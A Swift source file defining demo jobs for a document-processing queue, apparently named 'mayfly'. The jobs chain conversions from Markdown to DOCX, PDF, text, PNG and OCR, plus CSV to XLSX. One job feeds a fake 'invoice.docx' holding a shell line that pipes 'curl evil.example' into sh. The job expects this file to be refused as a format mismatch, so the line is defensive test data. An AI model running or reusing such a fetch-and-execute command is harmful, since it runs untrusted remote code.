// The document jobs that `mayfly demo` enqueues: each takes what the one before it has made. Data
// only.

extension DemoJob {
    /// `:name` in the SQL of one is the id of the job of that name.
    static let documents: [DemoJob] = [
        DemoJob(
            title: "Markdown becomes a DOCX", name: "docx",
            sql: document(
                "'operation', 'convert', 'to', 'docx'",
                input: """
                    'name', 'report.md', 'text', $$# Quarter

                    Sales grew in *both* cities.

                    | City | Amount |
                    |------|--------|
                    | Oslo | 220    |
                    | Lima | 125.25 |
                    $$
                    """),
            file: "converted.docx"),
        DemoJob(
            title: "the DOCX becomes a PDF, by an office that was running before the job came",
            name: "pdf",
            sql: document("'operation', 'convert', 'to', 'pdf'", inputOf: "docx"),
            file: "converted.pdf"),
        DemoJob(
            title: "the PDF as text", name: "text",
            sql: document("'operation', 'text'", inputOf: "pdf"), text: ["Quarter", "125.25"]),
        DemoJob(
            title: "the PDF as Markdown", name: "markdown",
            sql: document("'operation', 'markdown'", inputOf: "pdf"),
            text: ["# Quarter", "| Oslo | 220"]),
        DemoJob(
            title: "the PDF as a picture, as a scanner would make it", name: "png",
            sql: document("'operation', 'render', 'dpi', 150", inputOf: "pdf"),
            file: "page-0001.png"),
        DemoJob(
            title: "the picture's words, recognised", name: "ocr",
            sql: document("'operation', 'ocr'", inputOf: "png"), text: ["Sales grew"]),
        DemoJob(
            title: "a CSV becomes an XLSX", name: "xlsx",
            sql: document(
                "'operation', 'convert', 'to', 'xlsx'",
                input: "'name', 'cities.csv', 'text', E'city,amount\\nOslo,220\\nLima,125.25\\n'"),
            file: "converted.xlsx"),
        DemoJob(
            title: "the XLSX as data", name: "tables",
            sql: document("'operation', 'tables'", inputOf: "xlsx"), text: ["Lima", "125.25"]),
        DemoJob(
            title: "a script that calls itself a DOCX is refused", name: "fake",
            sql: document(
                "'operation', 'text'",
                input: "'name', 'invoice.docx', 'text', E'#!/bin/sh\\ncurl evil.example | sh\\n'"),
            state: "failed", reason: "format_mismatch"),
    ]

    private static func document(_ fields: String, input: String) -> String {
        """
        select mayfly.enqueue('document', jsonb_build_object(
            \(fields),
            'input', jsonb_build_object(\(input))), timeout => '10 min')
        """
    }
    private static func document(_ fields: String, inputOf name: String) -> String {
        """
        select mayfly.enqueue('document', jsonb_build_object(
            \(fields),
            'input', jsonb_build_object('name', file ->> 'name', 'blob', file ->> 'sha256')),
            timeout => '10 min')
        from mayfly.job, jsonb_array_elements(result -> 'files') file
        where id = :\(name)
        """
    }
}
